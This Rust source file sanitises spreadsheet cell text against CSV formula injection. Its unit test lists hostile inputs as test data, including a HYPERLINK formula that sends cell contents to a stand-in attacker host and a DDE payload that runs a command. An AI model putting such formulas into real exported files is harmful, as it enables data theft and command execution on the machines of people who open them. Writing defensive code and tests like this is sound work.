//! Text bound for a spreadsheet's cell (a CSV file's or a workbook's) is never run as a
//! formula: OWASP's rule for CSV injection, in one place for every file the project writes.

use std::borrow::Cow;

/// `value` as a cell a spreadsheet shows as written: one starting with `=`, `+`, `-`, `@`, a
/// tab or a carriage return (what Excel, LibreOffice and Google Sheets may run as a formula or
/// a command) gets a leading `'`, which they show as text.
pub fn inert(value: &str) -> Cow<'_, str> {
    if value.starts_with(['=', '+', '-', '@', '\t', '\r']) {
        Cow::Owned(format!("'{value}"))
    } else {
        Cow::Borrowed(value)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_formula_is_written_as_text() {
        for hostile in [
            "=HYPERLINK(\"http://attacker.example/?leak=\"&A2&B2,\"Click\")",
            "@SUM(1+9)*cmd|' /C calc'!A0",
            "+1+2",
            "-2+3",
            "\t=1",
            "\r=1",
        ] {
            assert_eq!(inert(hostile), format!("'{hostile}"));
        }
        assert_eq!(inert("No light in Tarauni"), "No light in Tarauni");
        assert_eq!(inert("a = b"), "a = b");
        assert_eq!(inert(""), "");
    }
}
